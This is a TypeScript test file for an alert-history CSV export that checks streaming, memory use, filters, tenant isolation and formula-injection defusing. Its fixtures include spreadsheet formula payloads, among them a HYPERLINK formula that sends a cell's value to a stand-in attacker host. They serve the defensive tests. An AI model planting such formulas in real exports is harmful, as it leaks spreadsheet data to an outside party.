import http from 'node:http';
import type net from 'node:net';
import v8 from 'node:v8';
import vm from 'node:vm';
import zlib from 'node:zlib';
import { beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { ALERT_PRIORITIES, HISTORY_EXPORT_COLUMNS, HISTORY_MSG } from '../../../contract/alerts.ts';
import { bulkInsert, type BulkInsert } from '../../db/bulk-insert.ts';
import type { AlertsTable } from '../../db/schema.ts';
import { describeEachDatabase } from '../../test/test-app.ts';
import { registerOwner } from '../../test/factories.ts';
import { createClient } from '../../test/clients.ts';
import { sleep } from '../../test/alerts.ts';
import { CSV_BOM, csvCell, exportDescription, historyExportFilename } from './alert-export.ts';

const ROWS = 100_000;
const BASE = Date.parse('2024-01-01T00:00:00.000Z');
const MINUTE = 60_000;
/** Rows i = TIE…TIE+9 share one resolution time across the export's first batch boundary (keyset ties on the id). */
const TIE = 98_995;

const idOf = (i: number) => `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`;
const resolvedMs = (i: number) => BASE + (i >= TIE && i < TIE + 10 ? TIE : i) * MINUTE;
const resolvedAt = (i: number) => new Date(resolvedMs(i)).toISOString();
const status = (i: number) => (i % 5 === 0 ? 'closed' : 'resolved');
const priority = (i: number) => ALERT_PRIORITIES[i % 3];
const withClient = (i: number) => i % 4 === 0;

/** The newest rows carry what a CSV must defuse or quote. */
const SPECIAL: Record<number, Partial<AlertsTable>> = {
  99_999: { title: '=HYPERLINK("http://evil.example/?x="&A1,"Click")' },
  99_998: { title: '+1+2', source: '@SUM(A1:A9)', description: '-2+3' },
  99_997: { title: 'Disk full, "db-1"\r\nsecond line' },
  99_996: { title: '\tTab first', description: '  padded  \n' },
  99_995: { title: 'Überhitzung 🔥 ok', description: `${'x'.repeat(1_500)}` },
};

const MB = (bytes: number) => Math.round(bytes / 1024 / 1024);

/** The garbage collector, for memory readings that are not the leftovers of earlier work. */
v8.setFlagsFromString('--expose-gc');
const gc = vm.runInNewContext('gc') as () => void;

/**
 * A streaming RFC 4180 reader: fed text chunks, hands over each record as it completes, keeps nothing else (the
 * 100,000-row test measures the server's memory, not a copy of the file).
 */
function csvReader(onRecord: (cells: string[]) => void) {
  let cell = '';
  let cells: string[] = [];
  let quoted = false;
  let quoteSeen = false; // a quote inside a quoted cell: the end of it, or the first of two
  let cr = false;
  return (chunk: string) => {
    for (const ch of chunk) {
      if (quoted) {
        if (quoteSeen) {
          quoteSeen = false;
          if (ch === '"') {
            cell += '"';
            continue;
          }
          quoted = false;
        } else if (ch === '"') {
          quoteSeen = true;
          continue;
        } else {
          cell += ch;
          continue;
        }
      }
      if (cr) {
        cr = false;
        if (ch !== '\n') throw new Error(`CR without LF in record ${JSON.stringify(cells)}`);
        cells.push(cell);
        onRecord(cells);
        cells = [];
        cell = '';
        continue;
      }
      if (ch === '"' && cell === '') quoted = true;
      else if (ch === ',') {
        cells.push(cell);
        cell = '';
      } else if (ch === '\r') cr = true;
      else if (ch === '\n') throw new Error('LF without CR');
      else cell += ch;
    }
  };
}

/** Every record of a whole CSV text (small exports). */
function records(text: string): string[][] {
  const out: string[][] = [];
  const feed = csvReader((r) => out.push(r));
  feed(text.startsWith(CSV_BOM) ? text.slice(1) : text);
  return out;
}

describe('CSV cells', () => {
  it('defuses formulas, quotes commas, quotes and line breaks, and leaves the rest alone', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell('-1')).toBe("'-1");
    expect(csvCell('@A1')).toBe("'@A1");
    expect(csvCell('\tx')).toBe("'\tx");
    expect(csvCell('\rx')).toBe(`"'\rx"`);
    expect(csvCell('=A1,"b"')).toBe(`"'=A1,""b"""`);
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('one\ntwo')).toBe('"one\ntwo"');
    expect(csvCell('a = b - c')).toBe('a = b - c');
    expect(csvCell("'quoted'")).toBe("'quoted'");
    expect(csvCell(null)).toBe('');
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell('Überhitzung 🔥')).toBe('Überhitzung 🔥');
  });

  it('trims descriptions and cuts long ones by characters, never inside an emoji', () => {
    expect(exportDescription('  text \n')).toBe('text');
    expect(exportDescription('abcdef', 3)).toBe('abc…');
    expect(exportDescription('abc', 3)).toBe('abc');
    expect(exportDescription('🔥🔥🔥🔥', 3)).toBe('🔥🔥🔥…');
    expect(exportDescription('ab cd', 3)).toBe('ab…');
  });

  it('names the file after the tenant and the day, in plain ASCII', () => {
    const day = new Date('2025-03-04T23:59:00Z');
    expect(historyExportFilename({ id: 't1', name: 'Acme MSP' }, day)).toBe('alert-history-acme-msp-2025-03-04.csv');
    expect(historyExportFilename({ id: 't1', name: 'Zürich "IT" / Süd' }, day)).toBe('alert-history-zurich-it-sud-2025-03-04.csv');
    expect(historyExportFilename({ id: 't1', name: '東京' }, day)).toBe('alert-history-t1-2025-03-04.csv');
  });
});

describeEachDatabase('alert history CSV export', (t) => {
  let owner: Awaited<ReturnType<typeof registerOwner>>;
  let other: Awaited<ReturnType<typeof registerOwner>>;
  let clientId: string;
  let otherIds: string[];
  const url = (tenantId: string, query = '') => `/api/tenants/${tenantId}/alerts/history/export${query ? `?${query}` : ''}`;

  /** Opens the export over a real socket (app.inject would hold the whole body) and reads it chunk by chunk. */
  function openExport(path: string, headers: Record<string, string> = {}) {
    const address = t().app.server.address() as net.AddressInfo;
    return new Promise<http.IncomingMessage>((resolve, reject) => {
      http.get({ host: '127.0.0.1', port: address.port, path, agent: false, headers: { cookie: owner.agent.cookie!, ...headers } }, resolve).on('error', reject);
    });
  }

  const row = (tenantId: string, i: number, id = idOf(i)): AlertsTable => {
    const at = resolvedMs(i);
    const created = new Date(at - 10 * MINUTE).toISOString();
    const title = `Disk almost full on host-${i}`;
    const source = `host-${i}.example`;
    const r: AlertsTable = {
      id,
      tenant_id: tenantId,
      client_id: withClient(i) ? clientId : null,
      integration_id: null,
      dedup_key: `k-${i}`,
      title,
      description: `Volume /data at 9${i % 10} %`,
      priority: priority(i),
      status: status(i),
      source,
      search_text: '',
      created_at: created,
      updated_at: resolvedAt(i),
      acknowledged_by: i % 2 === 0 ? owner.userId : null,
      acknowledged_at: i % 2 === 0 ? new Date(at - 5 * MINUTE).toISOString() : null,
      resolved_by: i % 3 === 0 ? owner.userId : null,
      resolved_at: resolvedAt(i),
      closed_by: status(i) === 'closed' ? owner.userId : null,
      closed_at: status(i) === 'closed' ? new Date(at + MINUTE).toISOString() : null,
      assigned_to: null,
      tags: '[]',
      metadata: '{}',
      occurrences: 1 + (i % 7),
      last_seen_at: created,
      escalation_state: 'none',
      ...SPECIAL[i],
    };
    r.search_text = `${r.title}\n${r.source}\n${r.dedup_key}\n${r.description}`.toLowerCase();
    return r;
  };

  const COLUMNS: BulkInsert<AlertsTable>['columns'] = (
    [
      'id', 'tenant_id', 'client_id', 'integration_id', 'dedup_key', 'title', 'description', 'priority', 'status', 'source', 'search_text', 'created_at', 'updated_at',
      'acknowledged_by', 'acknowledged_at', 'resolved_by', 'resolved_at', 'closed_by', 'closed_at', 'assigned_to', 'tags', 'metadata', 'last_seen_at', 'escalation_state',
    ] as const
  ).map((c) => [c, 'text'] as const);
  const spec: BulkInsert<AlertsTable> = { table: 'alerts', columns: [...COLUMNS, ['occurrences', 'int']] };

  /** The rows of the tenant's history that `keep` selects, newest first, as the export must give them. */
  const expected = (keep: (i: number) => boolean) => {
    const out: number[] = [];
    for (let i = ROWS - 1; i >= 0; i--) if (keep(i)) out.push(i);
    return out;
  };

  beforeAll(async () => {
    const { app, deps } = t();
    await app.listen({ port: 0, host: '127.0.0.1' });
    owner = await registerOwner(app, { name: 'Olivia Owner', tenantName: 'Acme MSP' });
    other = await registerOwner(app, { name: 'Otto Other', tenantName: 'Other MSP' });
    clientId = (await createClient(owner.agent, owner.tenantId, { name: 'Contoso, "Ltd"', status: 'active' })).id;
    const started = Date.now();
    // 100,000 rows straight into the table, 5,000 objects at a time, in one transaction.
    await deps.db.transaction().execute(async (trx) => {
      for (let from = 0; from < ROWS; from += 5_000) {
        const rows: AlertsTable[] = [];
        for (let i = from; i < Math.min(ROWS, from + 5_000); i++) rows.push(row(owner.tenantId, i));
        await bulkInsert(trx, spec, rows);
      }
      // The other tenant: alerts resolved at the very same times.
      otherIds = [99_999, 50_000, 3].map((i) => `ffffffff-0000-4000-8000-${String(i).padStart(12, '0')}`);
      await bulkInsert(trx, spec, [99_999, 50_000, 3].map((i, k) => row(other.tenantId, i, otherIds[k])));
    });
    console.log(`[${t().db.name}] seeded ${ROWS.toLocaleString('en')} history alerts in ${Date.now() - started} ms`);
  }, 180_000);

  it('streams 100,000 rows with the header, every row in order, defused and quoted cells, and a flat memory', async () => {
    gc();
    const before = process.memoryUsage();
    let peakRss = before.rss;
    /** The heap still in use (collected first) a quarter, half and three quarters of the way: what the export holds. */
    const live: number[] = [];
    const started = Date.now();
    const res = await openExport(url(owner.tenantId));
    onTestFinished(() => void res.destroy());
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="alert-history-acme-msp-${new Date().toISOString().slice(0, 10)}.csv"`);
    expect(res.headers['x-total-count']).toBe(String(ROWS));
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.headers['content-encoding']).toBeUndefined();

    let n = -1; // the header is record 0
    let bytes = 0;
    let first = true;
    const kept = new Map<number, string[]>();
    const order: string[] = [];
    const feed = csvReader((cells) => {
      if (n === -1) expect(cells).toEqual([...HISTORY_EXPORT_COLUMNS]);
      else {
        // Newest first: row n is alert ROWS - 1 - n (the tie group too: its ids descend).
        const i = ROWS - 1 - n;
        if (cells[0] !== idOf(i)) order.push(`record ${n}: ${cells[0]} instead of ${idOf(i)}`);
        if (cells.length !== HISTORY_EXPORT_COLUMNS.length) order.push(`record ${n}: ${cells.length} cells`);
        if (i >= 99_990 || i === 0 || i === 3) kept.set(i, cells);
        if (n > 0 && n % 25_000 === 0) {
          gc();
          live.push(process.memoryUsage().heapUsed);
        }
      }
      n++;
    });
    res.setEncoding('utf8');
    for await (const chunk of res as AsyncIterable<string>) {
      if (first) {
        expect(chunk.startsWith(CSV_BOM)).toBe(true);
        first = false;
        feed(chunk.slice(1));
      } else feed(chunk);
      bytes += Buffer.byteLength(chunk);
      peakRss = Math.max(peakRss, process.memoryUsage().rss);
    }
    const seconds = (Date.now() - started) / 1000;
    gc();
    const after = process.memoryUsage();
    console.log(
      `[${t().db.name}] export of ${n.toLocaleString('en')} rows, ${MB(bytes)} MB in ${seconds.toFixed(1)} s: ` +
        `RSS ${MB(before.rss)} MB before, ${MB(peakRss)} MB at most during, ${MB(after.rss)} MB after; ` +
        `heap in use ${MB(before.heapUsed)} MB before, ${live.map(MB).join(' / ')} MB at 25/50/75 %, ${MB(after.heapUsed)} MB after`,
    );
    expect(order.slice(0, 5)).toEqual([]);
    expect(n).toBe(ROWS);
    // The file is ~21 MB: had it been held (or queued for a socket), the heap in use would have grown by that much at
    // least; it holds about a batch at a time.
    expect(peakRss - before.rss).toBeLessThan(150 * 1024 * 1024);
    expect(live).toHaveLength(3);
    for (const used of live) expect(used - before.heapUsed).toBeLessThan(10 * 1024 * 1024);

    const cellsOf = (i: number) => Object.fromEntries(HISTORY_EXPORT_COLUMNS.map((c, k) => [c, kept.get(i)![k]]));
    expect(cellsOf(99_999)['Title']).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
    expect(cellsOf(99_998)).toMatchObject({ Title: "'+1+2", Source: "'@SUM(A1:A9)", Description: "'-2+3" });
    expect(cellsOf(99_997)['Title']).toBe('Disk full, "db-1"\r\nsecond line');
    expect(cellsOf(99_996)).toMatchObject({ Title: "'\tTab first", Description: 'padded' });
    expect(cellsOf(99_995)['Title']).toBe('Überhitzung 🔥 ok');
    expect(cellsOf(99_995)['Description']).toBe(`${'x'.repeat(1_000)}…`);
    // Every column of an ordinary row: i = 0 is closed, acknowledged and resolved by the owner, with the client.
    expect(cellsOf(0)).toEqual({
      'Alert ID': idOf(0),
      Title: 'Disk almost full on host-0',
      Priority: 'critical',
      Status: 'closed',
      Client: 'Contoso, "Ltd"',
      Source: 'host-0.example',
      'Created at': '2023-12-31T23:50:00.000Z',
      'Acknowledged by': 'Olivia Owner',
      'Acknowledged at': '2023-12-31T23:55:00.000Z',
      'Resolved by': 'Olivia Owner',
      'Resolved at': '2024-01-01T00:00:00.000Z',
      'Closed by': 'Olivia Owner',
      'Closed at': '2024-01-01T00:01:00.000Z',
      Occurrences: '1',
      Description: 'Volume /data at 90 %',
    });
    // i = 3: resolved by the owner, never acknowledged, no client, not closed.
    expect(cellsOf(3)).toMatchObject({ Priority: 'critical', Status: 'resolved', Client: '', 'Acknowledged by': '', 'Acknowledged at': '', 'Resolved by': 'Olivia Owner', 'Closed by': '', 'Closed at': '', Occurrences: '4' });
  }, 120_000);

  it('waits for a slow client and serves other requests meanwhile', async () => {
    const sockets: net.Socket[] = [];
    const track = (s: net.Socket) => sockets.push(s);
    t().app.server.on('connection', track);
    try {
      const res = await openExport(url(owner.tenantId));
      onTestFinished(() => void res.destroy());
      const server = sockets[sockets.length - 1];
      expect(res.statusCode).toBe(200);
      let records = 0;
      const feed = csvReader(() => records++);
      res.setEncoding('utf8');
      // Take the first chunk, then stop reading.
      await new Promise<void>((resolve) => {
        const first = (chunk: string) => {
          res.pause();
          res.off('data', first);
          feed(chunk.slice(1));
          resolve();
        };
        res.on('data', first);
      });
      // The socket's buffers fill, then nothing more moves: wait for that (a loaded machine may take seconds).
      let written = server.bytesWritten;
      for (let still = 0, i = 0; still < 2 && i < 50; i++) {
        await sleep(250);
        still = server.bytesWritten === written ? still + 1 : 0;
        written = server.bytesWritten;
      }
      const queued = server.writableLength;
      // Meanwhile the server answers (SQLite's one connection is not held by the export).
      const list = await owner.agent.get(`/api/tenants/${owner.tenantId}/alerts/history?pageSize=5`);
      expect(list.statusCode).toBe(200);
      await sleep(300);
      console.log(`[${t().db.name}] paused client: ${MB(written)} MB written to the socket, ${Math.round(queued / 1024)} KiB queued, then ${Math.round((server.bytesWritten - written) / 1024)} KiB more`);
      // Stalled: nothing more goes out and little waits in memory (the rest of the ~20 MB is still in the database).
      expect(server.bytesWritten - written).toBeLessThan(1024 * 1024);
      expect(queued).toBeLessThan(2 * 1024 * 1024);
      expect(written).toBeLessThan(12 * 1024 * 1024);
      // Going on reads it to the end.
      for await (const chunk of res as AsyncIterable<string>) feed(chunk);
      expect(records - 1).toBe(ROWS);
    } finally {
      t().app.server.off('connection', track);
    }
  }, 60_000);

  it('applies every filter exactly as the history list does', async () => {
    const day = (i: number) => resolvedAt(i).slice(0, 10);
    const cases: Array<[string, (i: number) => boolean]> = [
      [`status=closed&from=${resolvedAt(1_000)}&to=${resolvedAt(3_999)}`, (i) => i >= 1_000 && i <= 3_999 && status(i) === 'closed'],
      [`priority=high&clientId=${clientId}&from=${resolvedAt(20_000)}&to=${resolvedAt(29_999)}`, (i) => i >= 20_000 && i <= 29_999 && priority(i) === 'high' && withClient(i)],
      // Dates alone: the whole UTC days from the first through the last.
      [`from=${day(50_000)}&to=${day(52_000)}&status=resolved`, (i) => day(i) >= day(50_000) && day(i) <= day(52_000) && status(i) === 'resolved'],
      // A text in few alerts (SQLite: the trigram table's list) …
      ['q=HOST-4242', (i) => `host-${i}`.includes('host-4242')],
      // … and in every alert (the index walked, the LIKE tested), within a range.
      [`q=${encodeURIComponent('almost full on host-6')}&from=${resolvedAt(60_000)}&to=${resolvedAt(61_999)}`, (i) => i >= 60_000 && i <= 61_999 && `host-${i}`.startsWith('host-6')],
      [`to=${resolvedAt(TIE + 5)}&from=${resolvedAt(TIE - 2)}`, (i) => resolvedMs(i) >= resolvedMs(TIE - 2) && resolvedMs(i) <= resolvedMs(TIE + 5)],
      ['q=no-such-host', () => false],
    ];
    for (const [query, keep] of cases) {
      const res = await owner.agent.get(url(owner.tenantId, query));
      expect(res.statusCode, query).toBe(200);
      const [header, ...rows] = records(res.body);
      expect(header, query).toEqual([...HISTORY_EXPORT_COLUMNS]);
      const want = expected(keep);
      expect(rows.map((r) => r[0]), query).toEqual(want.map((i) => idOf(i)));
      expect(res.headers['x-total-count'], query).toBe(String(want.length));
      // The list agrees (its count, which stops at 10,000).
      const list = await owner.agent.get(`/api/tenants/${owner.tenantId}/alerts/history?${query}&pageSize=100`);
      expect(list.statusCode, query).toBe(200);
      expect(list.data.total, query).toBe(want.length);
      expect(list.data.items.map((a: { id: string }) => a.id), query).toEqual(want.slice(0, 100).map((i) => idOf(i)));
    }
  }, 60_000);

  it('refuses a range that ends before it starts, and times that are none, naming the fields', async () => {
    for (const path of [url(owner.tenantId), `/api/tenants/${owner.tenantId}/alerts/history`]) {
      const backwards = await owner.agent.get(`${path}?from=2024-02-02&to=2024-02-01`);
      expect(backwards.statusCode).toBe(400);
      expect(backwards.data.error.fields).toEqual({ from: HISTORY_MSG.fromAfterTo, to: HISTORY_MSG.toBeforeFrom });
      const late = await owner.agent.get(`${path}?from=${encodeURIComponent('2024-02-01T10:00:00+02:00')}&to=2024-02-01T07:59:59Z`);
      expect(late.data.error.fields).toEqual({ from: HISTORY_MSG.fromAfterTo, to: HISTORY_MSG.toBeforeFrom });
      for (const bad of ['2024-02-30', 'yesterday', '2024-02-01T10:00', '1706781600']) {
        const res = await owner.agent.get(`${path}?to=${encodeURIComponent(bad)}`);
        expect(res.statusCode, bad).toBe(400);
        expect(res.data.error.fields, bad).toEqual({ to: HISTORY_MSG.badTime });
      }
      // One day, or one instant, is a range.
      expect((await owner.agent.get(`${path}?from=2024-02-01&to=2024-02-01`)).statusCode).toBe(200);
      expect((await owner.agent.get(`${path}?from=${encodeURIComponent(resolvedAt(7))}&to=${encodeURIComponent(resolvedAt(7))}`)).statusCode).toBe(200);
    }
    const one = await owner.agent.get(url(owner.tenantId, `from=${resolvedAt(7)}&to=${resolvedAt(7)}`));
    expect(records(one.body).slice(1).map((r) => r[0])).toEqual([idOf(7)]);
  });

  it('is the tenant’s own: 401 without a session, 404 for another tenant, and only its alerts', async () => {
    const anonymous = await t().app.inject({ method: 'GET', url: url(owner.tenantId) });
    expect(anonymous.statusCode).toBe(401);
    const stranger = await other.agent.get(url(owner.tenantId));
    expect(stranger.statusCode).toBe(404);
    expect(stranger.body).not.toContain('Alert ID');
    expect((await other.agent.get(url('no-such-tenant'))).data).toEqual(stranger.data);
    const own = await other.agent.get(url(other.tenantId));
    expect(own.statusCode).toBe(200);
    expect(own.headers['content-disposition']).toContain('alert-history-other-msp-');
    expect(records(own.body).slice(1).map((r) => r[0])).toEqual(otherIds);
    // And the owner's export (read in the first test as all 100,000 rows of its own ids) holds none of them.
    const same = await owner.agent.get(url(owner.tenantId, `from=${resolvedAt(50_000)}&to=${resolvedAt(50_000)}`));
    expect(records(same.body).slice(1).map((r) => r[0])).toEqual([idOf(50_000)]);
  });

  it('goes out compressed to a client that accepts it, the same text', async () => {
    const query = `from=${resolvedAt(90_000)}&to=${resolvedAt(90_999)}`;
    const plain = await owner.agent.get(url(owner.tenantId, query));
    const res = await openExport(url(owner.tenantId, query), { 'accept-encoding': 'gzip' });
    expect(res.headers['content-encoding']).toBe('gzip');
    expect(res.headers['x-total-count']).toBe('1000');
    const chunks: Buffer[] = [];
    for await (const c of res.pipe(zlib.createGunzip())) chunks.push(c as Buffer);
    expect(Buffer.concat(chunks).toString('utf8')).toBe(plain.body);
    expect(plain.body.startsWith(CSV_BOM)).toBe(true);
  });
});
